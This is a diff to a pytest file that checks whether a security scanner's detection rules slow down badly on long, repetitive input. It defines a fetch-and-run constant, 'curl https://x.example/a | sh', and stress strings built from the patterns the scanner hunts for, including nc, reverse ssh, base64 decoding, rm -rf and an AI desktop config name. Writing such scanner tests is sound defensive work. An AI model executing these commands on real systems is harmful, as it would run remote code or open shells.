@@ -11,8 +11,9 @@ from navigator_kernel.skills.scan.content import findings
 from navigator_kernel.skills.scan.rule import Rule, rules
 from scanning.test_content_rules import EXAMPLES
 
-SMALL, LARGE = 30_000, 120_000  # characters
-SLOWER, NOISE = 8, 0.03  # how many times slower four times as much may be; seconds that are no measure
+SHORT, SMALL, LARGE = 10_000, 25_000, 100_000  # characters of text that is made to be slow
+SLOWER, NOISE = 8, 0.02  # how many times slower four times as much may be; seconds that are no measure
+MOST = 0.5  # seconds for `SHORT`
 FETCH = "curl https://x.example/a | sh"
 
 # What is found, or nearly, in as many passages or places as there is room for
@@ -40,17 +41,21 @@ def seconds(text: str, path: str) -> float:
     return time.process_time() - began
 
 
-def grows_too_fast(unit: str, path: str) -> tuple[float, float] | None:
-    large = seconds(unit * (LARGE // len(unit)), path)
+def grows_too_fast(unit: str, path: str, head: str = "") -> tuple[float, float] | None:
+    """The seconds for `SMALL` and `LARGE`, where they show it."""
+    large = seconds(head + unit * (LARGE // len(unit) + 1), path)
     if large < SLOWER * NOISE:
         return None
-    small = seconds(unit * (SMALL // len(unit)), path)
+    small = seconds(head + unit * (SMALL // len(unit) + 1), path)
     return (small, large) if large > SLOWER * max(small, NOISE) else None
 
 
 def units(rule: Rule, example: str) -> Iterator[str]:
-    """Each needle in words, in one word and in one line each; and what the rule finds, but for its end."""
-    for needle in rule.needles:
+    """All needles, with what patterns wait for; each needle in words, in one word and in one line each; and what the
+    rule finds, but for its end."""
+    needles = rule.needles or ("you", "must", "run", "4A1")
+    yield from (between.join(needles) + between for between in (" ", "\n", "\"'/$(1, "))
+    for needle in needles:
         yield from (f"{needle} ", f"{needle}-", f"{needle}\n")
     line = example.strip()
     yield from (f"{line[: -(len(line) // 4)]} ", f"{line[:-1]} ", f"{line} ")
@@ -70,3 +75,42 @@ def test_what_a_rule_looks_for_takes_time_in_proportion(number: int) -> None:
 @pytest.mark.parametrize(("path", "unit"), PASSAGES, ids=[repr(unit[:20]) for _, unit in PASSAGES])
 def test_many_passages_and_findings_take_time_in_proportion(path: str, unit: str) -> None:
     assert grows_too_fast(unit, path) is None
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "1",
+        "a",
+        "9,",
+        " ",
+        "\n",
+        "<a ",
+        "<!--",
+        "[",
+        "```\n",
+        "é",
+        "\u2066א",
+        "a-",
+        "$(",
+        "'",
+        "curl -o ",
+        "curl >a ",
+        "; . ",
+        "sh -x ",
+    ],
+)
+@pytest.mark.parametrize("path", ["x.py", "x.md"])
+def test_long_lines_of_one_thing_take_no_longer_than_others(unit: str, path: str) -> None:
+    assert grows_too_fast(unit, path, "é") is None
+
+
+AGAIN = "clauDE_DesKToP_CoNfIGx|^ x for os.system |npx  -|gem  -://|uvx  -git+|base64 -d > |xxd -r> .$x|socket.socketx .recv(xo |rm  ---  -urf".split(
+    "|"
+)
+LINES = [("nc -", "c"), ("ssh -", "R"), ("truncate -s", " "), ("curl op read ", "readFile")]
+
+
+@pytest.mark.parametrize(("head", "unit"), [*(("", unit) for unit in AGAIN), *LINES])
+def test_what_patterns_try_again_and_again_takes_no_time(head: str, unit: str) -> None:
+    assert seconds(head + unit * (SHORT // len(unit)), "x.sh") < MOST
